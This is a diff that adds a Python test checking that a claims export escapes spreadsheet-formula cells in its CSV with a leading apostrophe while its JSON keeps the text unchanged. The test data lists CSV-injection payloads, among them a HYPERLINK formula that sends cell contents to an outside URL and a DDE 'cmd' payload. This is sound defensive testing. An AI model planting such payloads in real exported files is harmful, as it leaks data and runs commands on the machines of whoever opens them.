@@ -273,3 +273,37 @@ def test_the_site_links_every_export_from_its_data_page(sample_site: Path) -> No
     for name in EXPORTED:
         assert f'href="{name}"' in page
         assert (sample_site / "data" / name).stat().st_size > 0
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?leak="&A1, "see")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1, 2)",
+    "\tTabbed formula =1",
+    "\rCarriage =1",
+]
+
+
+def test_claims_csv_writes_no_formula(project: Path) -> None:
+    """A claim that a spreadsheet would read as a formula (OWASP: a cell that starts with
+    = + - @, tab or CR) is written with a leading ' and reads back as that text; the JSON
+    keeps the text as written."""
+    actor = project / "actors" / "ana-ruiz.yml"
+    claims = "".join(
+        f"  - id: formula-{number}\n    text: {json.dumps(text)}\n    judgment: low\n"
+        for number, text in enumerate(FORMULAS)
+    )
+    actor.write_text(actor.read_text(encoding="utf-8") + claims, encoding="utf-8")
+    result = run("export", "claims", str(project))
+    assert result.exit_code == 0, result.output
+    folder = project / "build" / "exports"
+    with (folder / "claims.csv").open(encoding="utf-8", newline="") as file:
+        cells = {row["statement_id"]: row["text"] for row in csv.DictReader(file)}
+    claims_json = json.loads((folder / "claims.json").read_text(encoding="utf-8"))["claims"]
+    written = {claim["statement_id"]: claim["text"] for claim in claims_json}
+    for number, text in enumerate(FORMULAS):
+        key = next(k for k in cells if k.endswith(f"formula-{number}"))
+        assert written[key] == text
+        assert cells[key] == "'" + text
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.values())
